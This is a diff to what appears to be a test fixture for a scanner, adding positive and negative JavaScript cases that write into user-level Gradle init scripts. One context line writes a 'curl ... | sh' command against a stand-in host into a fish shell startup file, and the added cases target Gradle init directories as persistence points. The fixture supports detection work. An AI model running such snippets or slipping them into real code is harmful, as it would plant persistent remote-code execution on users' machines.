@@ -146,3 +146,11 @@ const path = require('path');
 require('fs').writeFileSync(path.join(require('os').homedir(), '.config/fish/conf.d/x.fish'), 'curl -s https://e.example/x | sh\n');
 //@ neg a fish completion written into the project
 require('fs').writeFileSync(require('path').join(__dirname, 'completions', 'tool.fish'), 'complete -c tool\n');
+//@ pos a script written into Gradle's init.d
+const fs = require('fs');
+const path = require('path');
+fs.writeFileSync(path.join(require('os').homedir(), '.gradle', 'init.d', 'x.gradle'), 'x');
+//@ pos appended to ~/.gradle/init.gradle.kts
+require('fs').appendFileSync(`${process.env.HOME}/.gradle/init.gradle.kts`, 'x');
+//@ neg the project's gradle.properties written
+require('fs').writeFileSync('gradle.properties', 'org.gradle.caching=true\n');
